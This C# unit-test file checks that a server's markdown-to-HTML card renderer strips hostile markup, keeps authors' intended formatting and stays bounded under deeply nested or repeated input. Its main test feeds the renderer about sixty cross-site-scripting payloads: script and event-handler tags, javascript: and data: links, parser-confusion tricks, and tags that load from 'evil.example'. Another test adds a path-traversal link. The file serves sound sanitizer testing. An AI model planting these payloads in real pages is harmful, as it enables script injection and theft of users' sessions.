using System.Text.RegularExpressions;
using Banyan.Server.Cards;

namespace Banyan.Server.Tests.Pages;

/// <summary>Cards do nothing and cost little, whatever they hold.</summary>
public partial class CardHtmlTests
{
    static string Render(string markdown) => CardHtml.Render(markdown, "/ana/coder", "main", "docs/");

    [Fact]
    public void A_pipe_in_code_in_a_table_is_a_pipe()
    {
        var html = Render("| a |\n|---|\n| `<\\|im_end\\|>` |\n\n`x \\| y`");
        Assert.Contains("<code>&lt;|im_end|&gt;</code>", html);
        Assert.Contains("<code>x \\| y</code>", html);
    }

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<SCRIPT SRC=//evil.example/x.js></SCRIPT>")]
    [InlineData("<scr<script>ipt>alert(1)</script>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<img src=\"x\" onerror=\"alert(1)\" />")]
    [InlineData("<img/src=x/onerror=alert(1)>")]
    [InlineData("<svg onload=alert(1)><script>alert(1)</script></svg>")]
    [InlineData("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>")]
    [InlineData("<iframe src=javascript:alert(1)></iframe>")]
    [InlineData("<iframe srcdoc=\"<script>alert(1)</script>\">")]
    [InlineData("<object data=javascript:alert(1)>")]
    [InlineData("<embed src=javascript:alert(1)>")]
    [InlineData("<form action=//evil.example><button formaction=javascript:alert(1)>x</button></form>")]
    [InlineData("<input autofocus onfocus=alert(1)>")]
    [InlineData("<details open ontoggle=alert(1)>x</details>")]
    [InlineData("<body onload=alert(1)>")]
    [InlineData("<base href=//evil.example/>")]
    [InlineData("<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">")]
    [InlineData("<link rel=stylesheet href=//evil.example/x.css>")]
    [InlineData("<style>@import '//evil.example/x.css'; body{background:url(//evil.example)}</style>")]
    [InlineData("<p style=\"background:url(javascript:alert(1))\">x</p>")]
    [InlineData("<a href=\"javascript:alert(1)\">x</a>")]
    [InlineData("<a href=\" &#14; javascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"java&#x0A;script:alert(1)\">x</a>")]
    [InlineData("<a href=\"data:text/html,<script>alert(1)</script>\">x</a>")]
    [InlineData("<a href=\"vbscript:msgbox(1)\">x</a>")]
    [InlineData("[x](javascript:alert(1))")]
    [InlineData("[x](JaVaScRiPt:alert(1))")]
    [InlineData("[x](javascript&colon;alert(1))")]
    [InlineData("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)")]
    [InlineData("![x](javascript:alert(1))")]
    [InlineData("![x\" onerror=\"alert(1)](y)")]
    [InlineData("![x](y \"t\\\" onload=alert(1)\")")]
    [InlineData("[x]: javascript:alert(1)\n\n[x]")]
    [InlineData("<javascript:alert(1)>")]
    [InlineData("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">")]
    [InlineData("<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">")]
    [InlineData("<template><img src=x onerror=alert(1)></template>")]
    [InlineData("<xmp><img src=x onerror=alert(1)></xmp>")]
    [InlineData("<plaintext><img src=x onerror=alert(1)>")]
    [InlineData("<title><img src=x onerror=alert(1)></title>")]
    [InlineData("<!--><img src=x onerror=alert(1)>-->")]
    [InlineData("<!-- --!><img src=x onerror=alert(1)> -->")]
    [InlineData("<![CDATA[><img src=x onerror=alert(1)>]]>")]
    [InlineData("<?xml ?><img src=x onerror=alert(1)>")]
    [InlineData("<p title='a\"><img src=x onerror=alert(1)>'>")]
    [InlineData("<a title=\"</a><script>alert(1)</script>\">x</a>")]
    [InlineData("<video><source onerror=alert(1)></video>")]
    [InlineData("<audio src=x onerror=alert(1)>")]
    [InlineData("<marquee onstart=alert(1)>x</marquee>")]
    [InlineData("<table background=javascript:alert(1)><tr><td>x</td></tr></table>")]
    [InlineData("<div id=main name=location class=hub>x</div>")]
    [InlineData("```<script>\nalert(1)\n```")]
    [InlineData("`<script>alert(1)</script>`")]
    [InlineData("| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |")]
    [InlineData("# <script>alert(1)</script>")]
    [InlineData("[^1]\n\n[^1]: <script>alert(1)</script>")]
    [InlineData("\u0000<script>alert(1)</script>")]
    [InlineData("<a href=\"//evil.example\" target=_blank ping=//evil.example>x</a>")]
    public void A_card_can_do_nothing(string markdown)
    {
        var html = Render(markdown);
        foreach (Match tag in Tags().Matches(html))
        {
            Assert.Contains(tag.Groups[1].Value.ToLowerInvariant(), CardMarkup.Allowed);
            Assert.DoesNotMatch("(?i)\\s(on\\w+|style|class|srcdoc|formaction|ping|target|name|background)\\s*=", WithoutValues().Replace(tag.Value, "=\"\""));
            foreach (Match address in Addresses().Matches(tag.Value))
                Assert.Matches("^(https?://|mailto:|/|#)", System.Net.WebUtility.HtmlDecode(address.Groups[2].Value));
            if (tag.Value.StartsWith("<img", StringComparison.Ordinal))
                Assert.Contains("src=\"/ana/coder/resolve/main/", tag.Value);
        }
        Assert.DoesNotContain("id=\"main\"", html);
    }

    [GeneratedRegex("<([a-zA-Z][a-zA-Z0-9]*)(?:\"[^\"]*\"|[^\">])*>")]
    private static partial Regex Tags();

    [GeneratedRegex("=\"[^\"]*\"")]
    private static partial Regex WithoutValues();

    [GeneratedRegex("(href|src)=\"([^\"]*)\"")]
    private static partial Regex Addresses();

    [Theory]
    [InlineData("[a](x.md)", "href=\"/ana/coder/blob/main/docs/x.md\"")]
    [InlineData("[a](../x.md#part)", "href=\"/ana/coder/blob/main/x.md#part\"")]
    [InlineData("[a](../../../etc/passwd)", "href=\"/ana/coder/blob/main/etc/passwd\"")]
    [InlineData("[a](#part)", "href=\"#card-part\"")]
    [InlineData("# Part one", "id=\"card-part-one\"")]
    [InlineData("![a](p q.png)", "![a](p q.png)")]
    [InlineData("![a](<p q.png>)", "src=\"/ana/coder/resolve/main/docs/p%20q.png\"")]
    [InlineData("![a](https://elsewhere.example/x.png)", "<a href=\"https://elsewhere.example/x.png\"")]
    [InlineData("![a](/ana/coder/resolve/main/x.png)", "src=\"/ana/coder/resolve/main/x.png\"")]
    [InlineData("![a](/ana/other/resolve/main/x.png)", "<a href=\"/ana/other/resolve/main/x.png\"")]
    [InlineData("<div align=\"center\"><img src=\"l.png\" width=\"40%\"></div>", "<div align=\"center\"><img src=\"/ana/coder/resolve/main/docs/l.png\" width=\"40%\"")]
    [InlineData("<details><summary>More</summary>\n\n**b**\n\n</details>", "<strong>b</strong>")]
    [InlineData("| a |\n|---|\n| `x\\|y` |", "<code>x|y</code>")]
    [InlineData("a < b & c", "a &lt; b &amp; c")]
    [InlineData("हिन्दी 中文", "हिन्दी 中文")]
    public void A_card_looks_as_its_author_meant(string markdown, string expected) => Assert.Contains(expected, Render(markdown));

    [Theory]
    [InlineData("<div>", 60_000)]
    [InlineData("<b id=1><p>", 30_000)]
    [InlineData("<b><table><td></b></table>", 15_000)]
    [InlineData("<a href=x><font size=1>\n\nword\n\n", 10_000)]
    [InlineData("<ul><li>", 40_000)]
    [InlineData("> ", 60_000)]
    [InlineData("- ", 60_000)]
    [InlineData("[", 60_000)]
    [InlineData("![](", 60_000)]
    [InlineData("![](", 2_900)]
    [InlineData("[a][b", 60_000)]
    [InlineData("<a<", 60_000)]
    [InlineData("[^a]", 40_000)]
    [InlineData("[^a]: b\n", 40_000)]
    [InlineData("~~a ^b ", 40_000)]
    [InlineData("www.a.b ", 40_000)]
    [InlineData("www.a.b ", 2_900)]
    [InlineData("|a|\n|-|\n", 30_000)]
    [InlineData("|a|\n|-|\n", 3_700)]
    [InlineData("*a **b ", 40_000)]
    [InlineData("<!--", 60_000)]
    [InlineData("<a \"", 60_000)]
    [InlineData("|a", 60_000)]
    [InlineData("`", 100_000)]
    public void A_card_that_multiplies_or_nests_stays_small(string part, int times)
    {
        var text = string.Concat(Enumerable.Repeat(part, times));
        var before = GC.GetAllocatedBytesForCurrentThread();
        var html = Render(text[..Math.Min(text.Length, CardHtml.MaxLength)]);
        Assert.InRange(html.Length, 0, 20 << 20);
        Assert.InRange(GC.GetAllocatedBytesForCurrentThread() - before, 0, 2L << 30);
    }
}
